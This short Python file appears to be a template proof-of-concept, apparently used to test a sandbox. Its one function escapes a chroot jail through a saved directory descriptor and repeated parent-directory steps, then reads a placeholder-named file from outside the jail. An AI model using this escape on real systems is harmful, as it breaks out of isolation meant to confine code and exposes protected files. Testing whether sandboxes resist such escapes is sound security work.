# Changes the root of the file system, to leave the one that it has.

import os


def proof():
    os.mkdir("jail")
    outside = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(outside)
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
    return open("@PUBLIC@").read()
